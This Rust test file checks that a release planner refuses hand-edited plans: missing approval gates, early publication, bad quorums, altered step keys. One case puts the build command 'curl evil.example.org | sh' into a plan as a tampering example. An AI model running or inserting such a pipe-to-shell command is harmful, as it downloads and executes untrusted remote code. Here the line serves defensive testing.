//! Plans that were changed by hand are refused, each for the promise that it breaks.

use lifeboat::plan::{Plan, check};
use lifeboat::step::{Exposure, Isolation, PlannedStep, Quorum, Step, StepId, StepKey};
use proptest::prelude::*;

use crate::model::configs::{Shape, shapes};
use crate::model::made::id;

fn step<'a>(plan: &'a mut Plan, id: &str) -> &'a mut PlannedStep {
    plan.steps.iter_mut().find(|s| s.id.as_str() == id).unwrap_or_else(|| panic!("no step {id}"))
}

/// A step's data, to be changed.
macro_rules! data {
    ($plan:ident, $kind:ident, $id:expr) => {
        match &mut step($plan, $id).step {
            Step::$kind(data) => data,
            other => panic!("{} is {other:?}", $id),
        }
    };
}

fn unneed(plan: &mut Plan, of: &str, need: &str) {
    let step = step(plan, of);
    let len = step.needs.len();
    step.needs.retain(|n| n.as_str() != need);
    assert_eq!(step.needs.len(), len - 1, "{of} does not need {need}");
}

fn need(plan: &mut Plan, of: &str, need: &str) {
    let step = step(plan, of);
    step.needs.push(id(need));
    step.needs.sort();
}

fn point_at_nothing(plan: &mut Plan) {
    let point = data!(plan, Point, "point/s0");
    point.lines.clear();
}

type Change = (&'static str, &'static str, fn(&mut Plan));

const L1: &str = "release-1.0.0";

/// A name, the promise that is broken, and how, in the plan of [`Shape::of_everything`].
const CHANGES: &[Change] = &[
    ("an edge to the gate removed", "the gate waits for every line", |p| {
        unneed(p, "gate", "verify-staged/s0/release-1.0.0");
    }),
    ("a test that nothing waits for", "the gate waits for every line", |p| {
        unneed(p, "checksum/release-1.0.0", "test/release-1.0.0/t0");
    }),
    ("a private step made public", "nothing is public before the gate", |p| {
        step(p, "build/release-1.0.0/t0").exposure = Exposure::Public;
    }),
    ("the gate itself public", "nothing is public before the gate", |p| step(p, "gate").exposure = Exposure::Public),
    ("a public step called private", "what makes bytes public is planned as public", |p| {
        step(p, "promote/s0/release-1.0.0").exposure = Exposure::Private;
    }),
    ("a push that does not wait for the gate", "nothing is public before the gate", |p| {
        step(p, "push-git/r1").needs = vec![id("prepare/release-1.0.0")];
    }),
    ("a seal before the threshold", "the release key signs only after the threshold", |p| {
        for line in [L1, "release-3.0.0"] {
            unneed(p, &format!("seal/{line}"), "gate");
        }
    }),
    ("a required step that needs a deferrable one", "no required step waits for a deferrable", |p| {
        need(p, "gate", "verify-staged/s1/release-1.0.0");
    }),
    ("a build that may be deferred", "only destinations can be deferred", |p| {
        step(p, "build/release-1.0.0/t0").deferrable = true;
    }),
    ("pointers before a promotion", "a store's pointers move after all its files", |p| {
        let early = |n: &StepId| !["promote/", "push-git/", "forge-release/"].iter().any(|k| n.as_str().starts_with(k));
        step(p, "point/s0").needs.retain(early);
    }),
    ("a forge that shows files before they are there", "files first", |p| {
        unneed(p, "forge-release/github/release-1.0.0", "promote/s0/release-1.0.0");
    }),
    ("a line public before another is sealed", "no line is public before every line is sealed", |p| {
        unneed(p, "promote/s0/release-1.0.0", "seal/release-3.0.0");
    }),
    ("a promotion of what nobody read back", "what is promoted was staged and read back", |p| {
        // In the optional store, for the gate stands between in the required one.
        unneed(p, "promote/s1/release-1.0.0", "verify-staged/s1/release-1.0.0");
    }),
    ("two gates", "there is exactly one gate", |p| {
        let mut second = step(p, "gate").clone();
        second.id = id("gate/second");
        p.steps.push(second);
        p.steps.sort_by(|a, b| a.id.cmp(&b.id));
    }),
    ("no gate", "needs a step that the plan does not have", |p| p.steps.retain(|s| s.step.kind() != "gate")),
    ("a circle", "need each other in a circle", |p| need(p, "prepare/release-1.0.0", "gate")),
    ("an unknown need", "needs a step that the plan does not have", |p| need(p, "gate", "build/elsewhere")),
    ("two steps of one name", "two steps named", |p| {
        let twin = step(p, "gate").clone();
        p.steps.push(twin);
    }),
    ("unsorted steps", "steps are sorted by id", |p| p.steps.swap(0, 1)),
    ("unsorted needs", "what a step needs is sorted", |p| step(p, "gate").needs.reverse()),
    ("a need twice", "what a step needs is sorted, each once", |p| {
        need(p, "gate", "prepare/release-1.0.0");
    }),
    ("a step under another's name", "a step is named after what it acts on", |p| {
        let last = p.steps.iter_mut().find(|s| s.id.as_str() == "point/s1").unwrap();
        last.id = id("pointer/s1");
    }),
    ("nobody must approve", "somebody must approve", |p| p.threshold = 0),
    ("a gate that asks for fewer", "its threshold and embargo are the plan's", |p| {
        let gate = data!(p, Gate, "gate");
        gate.threshold = 1;
    }),
    ("a gate that forgets the embargo", "its threshold and embargo are the plan's", |p| {
        let gate = data!(p, Gate, "gate");
        gate.not_before = None;
    }),
    ("a gate that shows one line's sums only", "people approve every line's sums", |p| {
        let gate = data!(p, Gate, "gate");
        gate.checksums.pop();
    }),
    ("a gate that hides a carried fix", "people approve the commits", |p| {
        let gate = data!(p, Gate, "gate");
        gate.carries.clear();
    }),
    ("a test with network", "tests run without network", |p| {
        let test = data!(p, Test, "test/release-1.0.0/t0");
        test.job.isolation = Isolation::Network;
    }),
    ("a step that reads what it does not wait for", "a step waits for everything that it reads", |p| {
        // Every other line's sums are there too, but not this one's.
        let bundle = data!(p, Bundle, "bundle/release-1.0.0");
        bundle.prepare = id("prepare/release-3.0.0");
    }),
    ("a step that reads another line's outcome", "made for its own line", |p| {
        let promote = data!(p, Promote, "promote/s0/release-1.0.0");
        promote.0.seal = Some(id("seal/release-3.0.0"));
    }),
    ("a step that reads the wrong kind", "it reads what `checksum` makes", |p| {
        let promote = data!(p, Promote, "promote/s0/release-1.0.0");
        promote.0.checksum = id("bundle/release-1.0.0");
    }),
    ("another base than reviewed", "what is prepared is what the plan shows", |p| {
        p.lines[0].base = p.lines[1].base.clone();
    }),
    ("another series than reviewed", "what is prepared is what the plan shows", |p| {
        p.lines[0].series = p.lines[1].series;
    }),
    ("a line that nobody sees", "no step acts on a line or version that the plan does not show", |p| {
        p.lines.retain(|l| l.branch.as_str() != "release-2.0.0");
    }),
    ("a line twice", "no two lines have one branch", |p| p.lines.push(p.lines[0].clone())),
    ("no line", "a train has at least one line", |p| p.lines.clear()),
    ("pointers that leave a line out", "some required store serves every release", point_at_nothing),
    ("only optional stores", "some required store serves every release", |p| {
        for s in &mut p.steps {
            s.deferrable |= matches!(s.step.kind(), "promote" | "point" | "push-git");
        }
    }),
    ("another key", "a step's key is the digest of its inputs", |p| {
        step(p, "build/release-1.0.0/t0").key = StepKey(lifeboat::model::Sha256::of(b"another"));
    }),
    ("another command", "a step's key is the digest of its inputs", |p| {
        let build = data!(p, Build, "build/release-1.0.0/t0");
        build.job.run = vec!["curl evil.example.org | sh".to_owned()];
    }),
    ("no format", "its format is one of 1 to", |p| p.format = 0),
    ("a later format", "its format is one of 1 to", |p| p.format = lifeboat::plan::FORMAT + 1),
];

/// The same where a forge runs workflows and holds advisories, and its git is remote `r1`.
const AUTOMATED: &[Change] = &[
    ("a release while workflows are on", "workflows are off before what would start them", |p| {
        unneed(p, "forge-release/github/release-1.0.0", "suppress-workflows/github");
        unneed(p, "push-git/r1", "suppress-workflows/github");
    }),
    ("workflows on too early", "workflows stay off until all that would start them is delivered", |p| {
        unneed(p, "restore-workflows/github", "forge-release/github/release-1.0.0");
    }),
    ("an advisory before the gate", "nothing is public before the gate", |p| {
        step(p, "draft-advisory/github/GHSA-aaaa-bbbb-cccc").needs.clear();
    }),
    ("an advisory that says it is private", "what makes bytes public is planned as public", |p| {
        step(p, "draft-advisory/github/GHSA-aaaa-bbbb-cccc").exposure = Exposure::Private;
    }),
    ("workflows that nobody looked at before", "a step waits for everything that it reads", |p| {
        unneed(p, "suppress-workflows/github", "see-workflows/github");
    }),
];

fn quorum<'a>(plan: &'a mut Plan, has: &str) -> &'a mut Quorum {
    data!(plan, Quorum, &format!("quorum/{has}"))
}

/// The same where three stores count, `c0` to `c2`, and none is required.
const COUNTED: &[Change] = &[
    ("a gate that does not wait for the quorum", "the gate waits for every line's verification", |p| {
        unneed(p, "gate", "quorum/staged");
    }),
    ("a release shown before a quorum has its files", "files first", |p| {
        unneed(p, "forge-release/github/release-1.0.0", "quorum/files");
    }),
    ("pointers before a quorum has the files", "pointers move after the files", |p| {
        let early = |n: &StepId| !["quorum/", "push-git/", "forge-release/"].iter().any(|k| n.as_str().starts_with(k));
        step(p, "point/c1").needs.retain(early);
    }),
    ("a promotion of what only a quorum read back", "what is promoted was staged and read back", |p| {
        unneed(p, "promote/c0/release-1.0.0", "verify-staged/c0/release-1.0.0");
    }),
    ("a quorum that may be deferred", "only destinations can be deferred", |p| {
        step(p, "quorum/pointers").deferrable = true;
    }),
    ("a quorum of none", "a quorum is a number of stores from 1", |p| quorum(p, "files").at_least = 0),
    ("a quorum of more than there are", "a quorum is a number of stores from 1", |p| quorum(p, "files").at_least = 4),
    ("a minority", "a quorum is more than half of the stores", |p| quorum(p, "files").at_least = 1),
    ("two numbers", "is counted in the same stores", |p| quorum(p, "files").at_least = 3),
    ("no count of what is staged", "is counted in the same stores", |p| {
        unneed(p, "gate", "quorum/staged");
        p.steps.retain(|s| s.id.as_str() != "quorum/staged");
    }),
    ("no count of the pointers", "some required store serves every release", |p| {
        p.steps.retain(|s| s.id.as_str() != "quorum/pointers");
    }),
    ("a store that counts for half of what it must have", "it counts all that store `c0` must have", |p| {
        let half = quorum(p, "files").of.values_mut().next().unwrap();
        half.pop();
    }),
    ("a store that counts by another's steps", "it counts all that store `c0` must have", |p| {
        let stores = &mut quorum(p, "pointers").of;
        let other = stores.values().last().unwrap().clone();
        *stores.values_mut().next().unwrap() = other;
    }),
    ("a step that is counted and not needed", "counts a step that it does not need", |p| {
        unneed(p, "quorum/files", "promote/c0/release-1.0.0");
    }),
];

#[test]
fn each_change_is_refused_for_what_it_breaks() {
    refused(&Shape { stores: Vec::new(), counted: 3, ..Shape::of_everything() }, COUNTED);
    refused(&Shape::of_everything(), CHANGES);
    refused(&Shape { automated: Some(false), ..Shape::of_everything() }, AUTOMATED);
}

fn refused(shape: &Shape, changes: &[Change]) {
    let plan = shape.plan();
    check(&plan).unwrap();
    let mut wrong = Vec::new();
    for (name, promise, change) in changes {
        let mut changed = plan.clone();
        change(&mut changed);
        match check(&changed) {
            Ok(()) => wrong.push(format!("{name}: accepted")),
            Err(e) if !e.message().contains(promise) => wrong.push(format!("{name}: {e}")),
            Err(_) => {}
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The paths of all leaves below a value, as keys and indexes.
fn leaves(value: &serde_json::Value, at: &str, out: &mut Vec<String>) {
    match value {
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                leaves(v, &format!("{at}/{}", k.replace('~', "~0").replace('/', "~1")), out);
            }
        }
        serde_json::Value::Array(list) => {
            for (i, v) in list.iter().enumerate() {
                leaves(v, &format!("{at}/{i}"), out);
            }
        }
        _ => out.push(at.to_owned()),
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    /// Whatever single value of a step is changed, the plan is refused: its key covers it.
    #[test]
    fn no_value_of_a_step_can_be_changed(shape in shapes(), which in any::<prop::sample::Index>()) {
        let plan = shape.plan();
        let mut json: serde_json::Value = serde_json::from_slice(&plan.to_bytes().unwrap()).unwrap();
        let mut paths = Vec::new();
        leaves(&json["steps"], "/steps", &mut paths);
        // How a step is observed and whether it may be deferred change no outcome, so its key does not cover them.
        paths.retain(|p| !p.ends_with("/observe") && !p.ends_with("/deferrable"));
        let path = &paths[which.index(paths.len())];
        let value = json.pointer_mut(path).unwrap();
        let changed = match &*value {
            serde_json::Value::String(s) => serde_json::json!(change_text(s)),
            serde_json::Value::Number(n) => serde_json::json!(n.as_u64().unwrap_or(0) + 1),
            serde_json::Value::Bool(b) => serde_json::json!(!b),
            _ => serde_json::json!("v9.9.9"),
        };
        *value = changed;
        let refused = match Plan::from_bytes(&serde_json::to_vec(&json).unwrap()) {
            Ok(changed) => check(&changed).is_err(),
            Err(_) => true,
        };
        prop_assert!(refused, "{path} was changed to {}", json.pointer(path).unwrap());
    }
}

/// Another text that most grammars still take.
fn change_text(text: &str) -> String {
    match text.strip_suffix('1') {
        Some(start) => format!("{start}2"),
        None => format!("{}1", &text[..text.len().saturating_sub(1)]),
    }
}
